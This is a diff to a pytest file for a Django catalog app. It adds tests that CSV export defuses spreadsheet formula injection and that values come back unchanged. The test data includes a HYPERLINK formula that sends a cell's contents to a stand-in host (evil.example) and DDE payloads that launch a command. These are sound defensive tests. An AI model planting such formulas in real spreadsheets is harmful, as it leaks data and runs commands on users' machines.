@@ -12,9 +12,10 @@ from typing import Any
 import pytest
 from django.core.management import call_command
 
-from catalog import imports
+from catalog import imports, snapshot
 from catalog.claims import pins
-from catalog.models import Change, Claim, Model, Price
+from catalog.models import Change, Claim, Model, Price, Version
+from catalog.programs import export
 from catalog.sources import own_csv, own_json
 from catalog.sources.fetching import Unreadable
 from catalog.sources.rows import Refusal
@@ -144,6 +145,35 @@ def test_refusals_name_the_line():
 def test_takes_the_quote_off_what_is_no_formula():
     rows, _ = own_csv.translate("id,name,family\nacme/one,'=SUM(A1),'tis\n", DAY)
     assert rows[0].claim["facts"] == {"name": "=SUM(A1)", "family": "'tis"}
+
+
+FORMULAS = [
+    "=1+1", "+1", "-1", "@SUM(A1)", "'=1", "''=1", '"=1', "' =1", "＝1", "＋1", "－1", "＠x",
+    "a;=1", "a;'=1", "=a;=b;-c", "a; b", "it's", "'tis", "a=b", "a,=b",
+    '=HYPERLINK("https://evil.example/?q="&A1)', "=cmd|'/C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_formula_leaves_as_text_and_comes_back_as_it_was(text):
+    written = export.cell(text)
+    for cell in (written, *written.split(";")):  # a spreadsheet may part cells by semicolons
+        assert not cell.lstrip("\"").startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
+    assert own_csv.plain(written, ",") == text
+
+
+def test_numbers_stay_numbers():
+    assert [export.cell(number) for number in (-5, 0, Decimal("-0.5"), 1e-7)] == ["-5", "0", "-0.5", "1e-07"]
+
+
+def test_a_catalog_full_of_formulas_read_back_changes_nothing(client, catalog, keep):
+    for model, text in zip(Model.objects.order_by("pk"), FORMULAS[:5], strict=False):
+        Model.objects.filter(pk=model.pk).update(name=text, family=text)
+    Version.bump()
+    snapshot.refresh()
+    rows, _ = own_csv.translate(client.get("/models.csv").content.decode(), DAY)
+    kept = {model.slug: (model.name, model.family) for model in Model.objects.all()}
+    assert {row.slug: (row.claim["facts"]["name"], row.claim["facts"].get("family", "")) for row in rows} == kept
 
 
 @pytest.mark.parametrize("text", ["", "\n\n", "name,price\na,1\n", '"open'])
